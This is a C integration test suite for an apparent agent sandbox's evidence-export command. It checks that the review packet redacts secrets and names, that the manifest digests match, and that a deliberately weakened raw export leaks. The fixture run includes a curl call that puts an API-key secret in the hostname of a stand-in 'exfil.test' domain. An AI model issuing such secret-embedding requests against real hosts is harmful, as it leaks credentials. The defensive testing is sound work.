/* Integration: the review packet (paddock evidence export, HB-24). A run
 * whose record and logs hold markers (a secret, a person's name) in its
 * command, its environment and a destination name; the packet of it holds
 * none of them (an outside scan of every file, raw and JSON-escaped), its
 * manifest's digests match, and a reviewer can still link the policy,
 * the admission and its decision. The twin: --weaken raw-export copies the
 * files and the same outside scan finds the markers. The self-scan refuses
 * a packet with a marker in it (here the session id, put on the deny
 * list), and writes nothing. */
#include "harness.h"

TestSuite(export, .init = h_init, .fini = h_fini, .timeout = 90);

#define SECRET "mk-secret-7f3a9c21"
#define PERSON "Jane-Roe-Marker"

static char *policy(const struct h_world *w)
{
	char *path = h_join(w->base, "net.json");
	const char *src = h_read_file(h_fmt("%s/contrib/policies/agent.json", h_root()), NULL);
	const char *at = strstr(src, "\"network\": \"none\",");

	cr_assert_not_null(at);
	h_write_file(path,
		     h_fmt("%.*s\"network\": {\"mode\": \"mediated\", \"allow\": [{\"host\": "
			   "\"pkt.test\", \"ports\": [19022], \"protocol\": \"http\"}], "
			   "\"resolve\": {\"pkt.test\": \"127.0.0.1\"}},%s",
			   (int)(at - src), src, at + strlen("\"network\": \"none\",")),
		     0644);
	return path;
}

/* The secret reaches paddock as --env NAME does: from the environment. */
static void run(const struct h_world *w)
{
	struct h_proc p;

	cr_assert_eq(setenv("API_KEY", SECRET, 1), 0);
	H_PADDOCK(&p, w->ws, "run", "--policy", policy(w), "--env", "API_KEY", "--record",
		  w->record, "--", "sh", "-c",
		  "echo " PERSON " $API_KEY; curl -s -m 3 http://pkt.test:19022/a; "
		  "curl -s -m 3 http://" SECRET ".exfil.test/; exit 0");
	cr_assert_eq(p.status, 0, H_SHOW(&p));
}

/* Every file of dir, and whether any holds s (as is, or JSON-escaped:
 * the same here, the markers are plain). */
static bool dir_holds(const char *dir, const char *s)
{
	struct h_proc p;

	H_CMD(&p, NULL, "/bin/grep", "-rqF", "--", s, dir);
	return p.status == 0;
}

static int export(const struct h_world *w, struct h_proc *p, const char *out, const char *extra)
{
	char *secrets = h_join(w->base, "secrets");
	char *deny = h_join(w->base, "deny");

	h_write_file(secrets, "# brokered\nAPI=" SECRET "\n", 0600);
	h_write_file(deny, PERSON "\n", 0600);
	if (extra)
		return H_PADDOCK(p, w->ws, "evidence", "export", w->record, "--out", out,
				 "--secrets", secrets, "--env", "API_KEY", "--deny-file", deny,
				 extra);
	return H_PADDOCK(p, w->ws, "evidence", "export", w->record, "--out", out, "--secrets",
			 secrets, "--env", "API_KEY", "--deny-file", deny);
}

Test(export, the_packet_holds_no_marker_and_still_links)
{
	struct h_world w = h_world();
	char *out = h_join(w.base, "packet");
	struct h_proc p;

	run(&w);
	/* the markers are there to be kept out */
	cr_assert(dir_holds(w.record, SECRET));
	cr_assert(dir_holds(w.record, PERSON));
	cr_assert(dir_holds(h_fmt("%s.admissions.jsonl", w.record), SECRET));
	cr_assert_eq(export(&w, &p, out, NULL), 0, H_SHOW(&p));
	cr_assert(strstr(p.out_text, "4 files"), H_SHOW(&p));
	cr_assert_str_eq(h_list_dir(out),
			 "manifest.json\nmediator.jsonl\nrecord.json\n"
			 "supervisor.jsonl\n",
			 "%s", h_list_dir(out));
	cr_assert(!dir_holds(out, SECRET), "the secret is in the packet");
	cr_assert(!dir_holds(out, PERSON), "the person is in the packet");
	cr_assert(!dir_holds(out, "exfil"), "the destination name is in the packet");
	/* the manifest: every other file's digest, the scan's count */
	{
		struct h_proc q;

		H_CMD(&q, out, H_PYTHON, "-c",
		      "import json,hashlib\n"
		      "m=json.load(open('manifest.json'))\n"
		      "for f in m['files']:\n"
		      "  assert hashlib.sha256(open(f['name'],'rb').read()).hexdigest()=="
		      "f['sha256'], f\n"
		      "assert m['scan']['done'] and m['scan']['markers']==3, m['scan']\n"
		      "assert m['verified']=='COMPLETE', m['verified']\n"
		      "print(len(m['files']))\n");
		cr_assert_eq(q.status, 0, H_SHOW(&q));
		cr_assert_str_eq(q.out_text, "3\n", H_SHOW(&q));
	}
	/* the reviewer's link check, from the packet alone: the policy's
	 * digest, an admission allowed by rule 0 with its id, its outcome,
	 * and the refusal of the other name, under the same session */
	{
		struct h_proc q;

		H_CMD(&q, out, H_PYTHON, "-c",
		      "import json\n"
		      "r=json.load(open('record.json'))\n"
		      "sid=r['session']['id']\n"
		      "assert len(r['policy']['effective_sha256'])==64\n"
		      "m=[json.loads(l) for l in open('mediator.jsonl')]\n"
		      "s=[json.loads(l) for l in open('supervisor.jsonl')]\n"
		      "assert all(x['session']==sid for x in m+s)\n"
		      "ok=[x for x in m if x.get('decision') in ('allowed','upstream-failed') "
		      "and x.get('rule')==0 and x.get('admission')]\n"
		      "no=[x for x in m if x.get('decision')=='refused-no-rule']\n"
		      "assert ok and no, m\n"
		      "assert 'hmac' in no[0]['unlisted'][0] or any('hmac' in u for u in "
		      "no[0]['unlisted']), no[0]\n"
		      "cp=[x for x in s if x['type']=='checkpoint']\n"
		      "assert cp and cp[0]['head']==r['evidence']['sources'][1]['head']\n"
		      "print('linked')\n");
		cr_assert_eq(q.status, 0, H_SHOW(&q));
	}
	/* DIR must be new */
	cr_assert_eq(export(&w, &p, out, NULL), 125, H_SHOW(&p));
	cr_assert_eq(h_count_lines(p.err_text), 1, H_SHOW(&p));
}

/* The twin: the files as they are hold the markers. */
Test(export, weakened_raw_export_leaks_the_markers)
{
	struct h_world w = h_world();
	char *out = h_join(w.base, "packet");
	struct h_proc p;

	run(&w);
	cr_assert_eq(export(&w, &p, out, "--weaken=raw-export"), 0, H_SHOW(&p));
	cr_assert(strstr(p.err_text, "raw-export"), H_SHOW(&p));
	cr_assert(dir_holds(out, SECRET), "raw-export should leak: the outside scan sees it");
	cr_assert(dir_holds(out, PERSON));
}

/* The self-scan: a marker the allowlist keeps (the session id is an id)
 * makes the packet refused, and nothing is written. */
Test(export, a_marker_in_the_packet_refuses_it)
{
	struct h_world w = h_world();
	char *out = h_join(w.base, "packet");
	struct h_proc p;
	const char *sid;

	run(&w);
	sid = h_json(w.record, "d['session']['id']");
	sid = h_fmt("%.*s", (int)strlen(sid) - 2, sid + 1);
	cr_assert_eq(export(&w, &p, out, h_fmt("--deny=%s", sid)), 1, H_SHOW(&p));
	cr_assert(strstr(p.out_text, "refused: "), H_SHOW(&p));
	cr_assert(strstr(p.out_text, "(from --deny)"), H_SHOW(&p));
	cr_assert_null(strstr(p.out_text, sid), "the marker itself is never printed");
	cr_assert(!h_exists(out), "nothing may be written");
}

Test(export, bad_arguments)
{
	struct h_world w = h_world();
	struct h_proc p;

	run(&w);
	H_PADDOCK(&p, w.ws, "evidence", "export", w.record);
	cr_assert_eq(p.status, 125, H_SHOW(&p));
	H_PADDOCK(&p, w.ws, "evidence", "export", w.record, "--out", h_join(w.base, "x"),
		  "--secrets", "/nonexistent");
	cr_assert_eq(p.status, 125, H_SHOW(&p));
	cr_assert_eq(h_count_lines(p.err_text), 1, H_SHOW(&p));
	H_PADDOCK(&p, w.ws, "evidence", "export", "/nonexistent.json", "--out",
		  h_join(w.base, "x"));
	cr_assert_eq(p.status, 125, H_SHOW(&p));
	H_PADDOCK(&p, w.ws, "evidence", "export", w.record, "--out", h_join(w.base, "x"),
		  "--weaken", "frobnicate");
	cr_assert_eq(p.status, 125, H_SHOW(&p));
	cr_assert(!h_exists(h_join(w.base, "x")));
	/* reconcile (HB-17): without a ledger every effect is unknown (2);
	 * a record without a mediated network or an unreadable ledger 125 */
	H_PADDOCK(&p, w.ws, "evidence", "reconcile", w.record);
	cr_assert_eq(p.status, 2, H_SHOW(&p));
	cr_assert(strstr(p.out_text, "\nUNKNOWN\n"), H_SHOW(&p));
	H_PADDOCK(&p, w.ws, "evidence", "reconcile", w.record, "--ledger", "/nonexistent");
	cr_assert_eq(p.status, 125, H_SHOW(&p));
	cr_assert_eq(h_count_lines(p.err_text), 1, H_SHOW(&p));
	H_PADDOCK(&p, w.ws, "run", "--record", h_join(w.base, "plain.json"), "--", "true");
	cr_assert_eq(p.status, 0, H_SHOW(&p));
	H_PADDOCK(&p, w.ws, "evidence", "reconcile", h_join(w.base, "plain.json"));
	cr_assert_eq(p.status, 125, H_SHOW(&p));
	cr_assert(strstr(p.err_text, "no mediator's log"), H_SHOW(&p));
}
